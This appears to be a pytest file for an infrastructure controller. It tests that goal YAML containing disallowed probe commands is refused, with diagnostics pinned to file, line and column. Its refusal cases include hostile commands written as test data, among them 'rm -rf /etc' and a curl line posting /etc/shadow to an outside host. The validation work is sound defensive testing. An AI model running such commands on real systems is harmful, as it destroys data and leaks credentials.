"""Goal validation end to end: YAML in a source tree, through the loader, to diagnostics
that name the file, the line and column, the document and the field.

The probe allow-list itself is table-tested in test_probes.py; here what matters is that
a refused command (or a bad regex, a mixed goal, a repeated name, a writing API action,
an expectation of the other platform) reaches the user pinned to where it was written,
and that a goal of allowed probes loads.
"""

from __future__ import annotations

from pathlib import Path

import pytest

import controller.policy  # noqa: F401  (registers the Policy kind, as the CLI does)
from controller import providers
from controller.errors import InvalidInputError
from controller.model import loader, probes
from controller.model.goal import CommandCheck, checks_of
from controller.source.open import open_source

providers.load_all()

NODES = """apiVersion: fazai.dev/v1alpha1
kind: Node
metadata: {name: web-1}
spec: {platform: linux, address: 10.0.0.1}
---
apiVersion: fazai.dev/v1alpha1
kind: Node
metadata: {name: edge-fw}
spec:
  platform: opnsense
  url: https://fw.example.net
  apiKeyRef: {env: FW_KEY}
  apiSecretRef: {env: FW_SECRET}
"""


def _goal(name: str, node: str, checks: str) -> str:
    return (
        f"apiVersion: fazai.dev/v1alpha1\nkind: Goal\nmetadata: {{name: {name}}}\nspec:\n"
        f"  target: {{node: {node}}}\n  description: an outcome\n  checks:\n{checks}"
    )


def _problems(root: Path, goals: str) -> list[str]:
    (root / "nodes.yaml").write_text(NODES)
    (root / "goals.yaml").write_text(goals)
    with pytest.raises(InvalidInputError) as caught:
        loader.load(open_source(str(root)))
    return [str(d) for d in caught.value.diagnostics]


def test_refused_command_names_file_line_field_and_the_program(tmp_path: Path) -> None:
    # Line 8 col 7 is the 'command' key of the first check; the second check's argv is
    # written as a block sequence, and the diagnostic still points at its key.
    lines = _problems(
        tmp_path,
        _goal(
            "web-up",
            "web-1",
            "    - name: wipe\n      command: [rm, -rf, /etc]\n      expect: {exitCode: 0}\n"
            "    - name: bounce\n      command:\n        - systemctl\n        - restart\n"
            "        - nginx\n      expect: {exitCode: 0}\n",
        ),
    )
    assert len(lines) == 2
    first, second = lines
    assert first.startswith(
        "goals.yaml:9:7: Goal/web-up: spec.checks[0].command: 'rm' is not a read-only probe"
    )
    assert probes.WHERE in first
    assert second == (
        "goals.yaml:12:7: Goal/web-up: spec.checks[1].command: systemctl: 'restart' is not a "
        "reading subcommand; a probe uses is-active, is-enabled, is-failed, status, show, "
        "list-units, list-unit-files, list-timers, cat, get-default (a change belongs in a "
        "typed document or a Tool)"
    )


@pytest.mark.parametrize(
    ("argv", "reason"),
    [
        ("[/tmp/cat, /etc/x]", "'/tmp/cat': a program is named bare or by its normalized path"),
        ("[sysctl, a=1]", "sysctl: 'a=1' sets a value"),
        ("[curl, -d, '@/etc/shadow', 'http://x']", "curl: '-d' is not an option a probe may use"),
        ("[tail, -f, /var/log/syslog]", "tail: '-f': following a file would not end"),
        ("[ip, link, set, eth0, down]", "ip: link 'set': a probe only reads"),
    ],
)
def test_each_refusal_reaches_the_command_field(tmp_path: Path, argv: str, reason: str) -> None:
    lines = _problems(
        tmp_path,
        _goal("probe", "web-1", f"    - name: one\n      command: {argv}\n"
              "      expect: {exitCode: 0}\n"),
    )  # fmt: skip
    assert len(lines) == 1
    assert lines[0].startswith(f"goals.yaml:9:7: Goal/probe: spec.checks[0].command: {reason}")


def test_bad_regex_and_duplicate_name_and_api_keys_on_a_command(tmp_path: Path) -> None:
    lines = _problems(
        tmp_path,
        _goal(
            "web-up",
            "web-1",
            "    - name: unit\n      command: [systemctl, is-active, nginx]\n"
            "      expect: {stdoutMatches: '([a-z'}\n"
            "    - name: unit\n      command: [cat, /etc/hostname]\n"
            "      expect: {path: a.b, equals: 1}\n",
        ),
    )
    assert lines == [
        "goals.yaml:10:16: Goal/web-up: spec.checks[0].expect.stdoutMatches: not a regular "
        "expression: unterminated character set at position 1",
        "goals.yaml:11:7: Goal/web-up: spec.checks[1].name: check name 'unit' is used twice "
        "in this goal",
        "goals.yaml:13:16: Goal/web-up: spec.checks[1].expect.path: 'path' applies to API "
        "checks ('get')",
        "goals.yaml:13:27: Goal/web-up: spec.checks[1].expect.equals: 'equals' applies to API "
        "checks ('get')",
    ]


def test_api_check_with_a_writing_action_and_linux_expectations(tmp_path: Path) -> None:
    lines = _problems(
        tmp_path,
        _goal(
            "fw-up",
            "edge-fw",
            "    - name: upgrade\n      get: core/firmware/upgrade\n"
            "      expect: {path: status, equals: ok}\n"
            "    - name: linuxish\n      get: core/firmware/status\n      timeout: 5\n"
            "      expect: {exitCode: 0, stdoutContains: ok, equals: ok}\n",
        ),
    )
    assert lines == [
        "goals.yaml:9:7: Goal/fw-up: spec.checks[0].get: 'core/firmware/upgrade' does not "
        "name a reading action (module/controller/action with action one of dump, get, info, "
        "list, read, search, show, stats, status): a check must not change the firewall",
        "goals.yaml:13:7: Goal/fw-up: spec.checks[1].timeout: 'timeout' applies to linux "
        "checks ('command')",
        "goals.yaml:14:16: Goal/fw-up: spec.checks[1].expect.exitCode: 'exitCode' applies to "
        "linux checks ('command')",
        "goals.yaml:14:29: Goal/fw-up: spec.checks[1].expect.stdoutContains: 'stdoutContains' "
        "applies to linux checks ('command')",
    ]


def test_mixed_platforms_point_at_the_first_api_check(tmp_path: Path) -> None:
    lines = _problems(
        tmp_path,
        _goal(
            "mixed",
            "web-1",
            "    - name: a\n      command: [cat, /etc/hostname]\n      expect: {exitCode: 0}\n"
            "    - name: b\n      get: core/firmware/status\n"
            "      expect: {path: status, equals: ok}\n",
        ),
    )
    assert lines == [
        "goals.yaml:11:7: Goal/mixed: spec.checks[1]: a goal's checks are all linux commands "
        "or all opnsense API reads: split it into one goal per platform"
    ]


def test_a_goal_of_allowed_probes_loads(tmp_path: Path) -> None:
    (tmp_path / "nodes.yaml").write_text(NODES)
    (tmp_path / "goals.yaml").write_text(
        _goal(
            "web-up",
            "web-1",
            "    - name: active\n      command: [systemctl, is-active, nginx]\n"
            "      expect: {stdoutContains: active}\n"
            "    - name: health\n"
            "      command: [curl, -fsS, -o, /dev/null, -w, '%{http_code}', "
            "'http://127.0.0.1/']\n"
            "      expect: {stdoutMatches: '^200$'}\n"
            "    - name: config\n      command: [/usr/sbin/nginx, -t]\n"
            "      expect: {exitCode: 0}\n",
        )
    )
    state = loader.load(open_source(str(tmp_path)))
    assert state.warnings == ()
    (goal,) = state.resources_for("web-1")
    assert goal.kind == "Goal"
    commands = [c.command for c in checks_of(goal.spec) if isinstance(c, CommandCheck)]
    assert commands == [
        ("systemctl", "is-active", "nginx"),
        ("curl", "-fsS", "-o", "/dev/null", "-w", "%{http_code}", "http://127.0.0.1/"),
        ("/usr/sbin/nginx", "-t"),
    ]


def test_a_repetition_over_the_engine_limit_is_a_diagnostic_not_a_crash(tmp_path: Path) -> None:
    lines = _problems(
        tmp_path,
        _goal(
            "big",
            "web-1",
            "    - name: unit\n      command: [cat, /etc/hostname]\n"
            "      expect: {stdoutMatches: 'a{4294967296}'}\n",
        ),
    )
    assert len(lines) == 1
    assert lines[0].startswith(
        "goals.yaml:10:16: Goal/big: spec.checks[0].expect.stdoutMatches: not a regular expression"
    )


def test_too_many_checks_say_how_many_not_what(tmp_path: Path) -> None:
    many = "".join(
        f"    - name: c{i}\n      command: [test, -d, /etc]\n      expect: {{exitCode: 0}}\n"
        for i in range(40)
    )
    assert _problems(tmp_path, _goal("many", "web-1", many)) == [
        "goals.yaml:7:3: Goal/many: spec.checks: has 40 items; at most 32 allowed"
    ]


@pytest.mark.parametrize("pattern", ["a++b", "(?>a+)b", "x{2,3}+", "y*+z"])
def test_syntax_a_node_python_may_lack_is_refused(tmp_path: Path, pattern: str) -> None:
    lines = _problems(
        tmp_path,
        _goal(
            "newer",
            "web-1",
            "    - name: unit\n      command: [cat, /etc/hostname]\n"
            f"      expect: {{stdoutMatches: '{pattern}'}}\n",
        ),
    )
    assert len(lines) == 1 and "need Python 3.11 on the node" in lines[0]
    assert lines[0].startswith("goals.yaml:10:16: Goal/newer: spec.checks[0].expect.stdoutMatches")


@pytest.mark.parametrize("pattern", [r"a\++", "[*+]x", "^(a|b)*$", r"port \d+$"])
def test_patterns_every_node_python_reads_load(tmp_path: Path, pattern: str) -> None:
    (tmp_path / "nodes.yaml").write_text(NODES)
    check = (
        "    - name: unit\n      command: [cat, /etc/hostname]\n"
        f"      expect: {{stdoutMatches: '{pattern}'}}\n"
    )
    (tmp_path / "goals.yaml").write_text(_goal("fine", "web-1", check))
    (doc,) = [d for d in loader.load(open_source(str(tmp_path))).resources if d.kind == "Goal"]
    assert doc.spec["checks"][0]["expect"]["stdoutMatches"] == pattern
